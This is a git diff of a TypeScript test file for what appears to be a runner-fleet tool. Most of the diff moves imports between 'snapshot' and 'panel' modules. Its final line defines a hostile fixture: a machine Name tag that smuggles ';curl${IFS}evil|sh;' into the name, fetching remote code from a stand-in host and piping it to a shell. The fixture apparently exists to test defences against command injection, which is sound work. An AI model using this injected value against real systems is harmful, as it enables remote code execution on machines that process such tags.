@@ -3,12 +3,12 @@ import {test} from 'node:test';
 import {panelActs} from '../../source/commands/panel.ts';
 import {ssh} from '../../source/commands/ssh.ts';
 import {watchFleet} from '../../source/commands/watch.ts';
+import {join} from '../../source/panel/join.ts';
+import {good} from '../../source/panel/seen.ts';
 import {isProblem} from '../../source/problem.ts';
-import {join} from '../../source/snapshot/join.ts';
-import {good} from '../../source/snapshot/seen.ts';
-import {someFleet} from '../executors/some-answers.ts';
+import {someFleet} from '../executors/docker-machine/some-answers.ts';
 import {hearing, sessionAt, standing} from '../panel/at-laptop.ts';
-import {healthy, host, instance, machine, nameAt, now} from '../snapshot/seeing.ts';
+import {healthy, host, instance, machine, nameAt, now} from '../panel/seeing.ts';
 
 /** A Name tag that anybody who may make a tag can write, in the form of a runner's machine. */
 const evil = `runner-abc123def-;curl\${IFS}evil|sh;-1700000000-deadbeef`;
